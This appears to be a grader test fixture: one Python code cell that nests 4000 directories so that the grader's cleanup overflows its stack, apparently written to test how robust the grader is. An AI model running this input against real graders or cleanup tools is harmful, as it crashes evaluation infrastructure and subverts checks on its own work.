"""Nests folders in its working directory so deep that clearing it away overflows the grader's stack."""

CELLS = [
    r"""
import os
home = os.getcwd()
for _ in range(4000):
    os.mkdir("d")
    os.chdir("d")
"""
]
